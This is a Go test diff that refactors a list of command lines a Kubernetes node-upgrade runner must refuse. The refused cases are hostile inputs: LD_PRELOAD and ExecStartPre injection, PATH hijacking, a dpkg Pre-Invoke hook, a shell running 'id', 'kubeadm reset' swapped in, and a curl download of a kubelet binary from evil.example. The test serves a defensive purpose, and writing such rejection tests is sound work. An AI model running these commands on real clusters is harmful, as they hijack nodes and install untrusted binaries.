@@ -97,17 +97,17 @@ func job(unit, rest string) string {
 
 func TestRefused(t *testing.T) {
 	apply := job("pawl-kubeadm-upgrade-apply-v1.37.2", "-- kubeadm upgrade apply v1.37.2 --yes")
-	lines := append(refused,
+	lines := slices.Concat(refused, []string{
 		strings.Replace(apply, "--quiet", "--quiet --pty", 1), strings.Replace(apply, "HOME=/root", "HOME=/tmp", 1), strings.Replace(apply, "PATH=", "PATH=/tmp:", 1),
 		strings.Replace(apply, "-- kubeadm", "--setenv=LD_PRELOAD=/tmp/x -- kubeadm", 1), strings.Replace(apply, "-- kubeadm", "--property=ExecStartPre=/tmp/x -- kubeadm", 1),
-		apply+" --config=/tmp/x", apply+" --ignore-preflight-errors=all --config=/tmp/x", strings.Replace(apply, "upgrade apply", "reset", 1), strings.Replace(apply, "-apply-v1.37.2", "-apply-v1.37.2.service", 1),
+		apply + " --config=/tmp/x", apply + " --ignore-preflight-errors=all --config=/tmp/x", strings.Replace(apply, "upgrade apply", "reset", 1), strings.Replace(apply, "-apply-v1.37.2", "-apply-v1.37.2.service", 1),
 		job("pawl-apt-install-kubelet-v1.37.2", "-- apt-get install --yes --allow-change-held-packages --no-remove --no-install-recommends -o DPkg::Lock::Timeout=300 -o Dpkg::Options::=--force-confold nginx=1.0-1"),
 		job("pawl-apt-install-kubelet-v1.37.2", "-- apt-get install --yes --allow-change-held-packages --no-remove --no-install-recommends -o DPkg::Lock::Timeout=300 -o Dpkg::Options::=--force-confold kubelet=1.37.2-1.1 /tmp/x.deb"),
 		job("pawl-apt-install-kubelet-v1.37.2", "-- apt-get install --yes --allow-change-held-packages --no-remove --no-install-recommends -o DPkg::Lock::Timeout=300 -o Dpkg::Options::=--force-confold kubelet=1.37.2-1.1 -o DPkg::Pre-Invoke::=id"),
 		job("pawl-hook-0123456789ab", "-- /bin/sh -c id"),
 		job("pawl-fetch-kubelet-v1.37.2", "--property=TimeoutStartSec=1800000ms -- curl --fail --silent --show-error --location --proto =https,http,file --proto-redir =https,http --retry 3 --output /usr/local/bin/.kubelet.v1.37.2.pawl -- https://evil.example/kubelet"),
 		job("pawl-fetch-kubelet-v1.37.2", "--property=TimeoutStartSec=1800000ms -- curl --fail --silent --show-error --location --proto =https,http,file --proto-redir =https,http --retry 3 --output /usr/local/bin/.kubelet.v1.37.2.pawl -- https://dl.k8s.io/../x"),
-	)
+	})
 	var commands [][]string
 	for _, line := range lines {
 		commands = append(commands, strings.Split(line, " "))
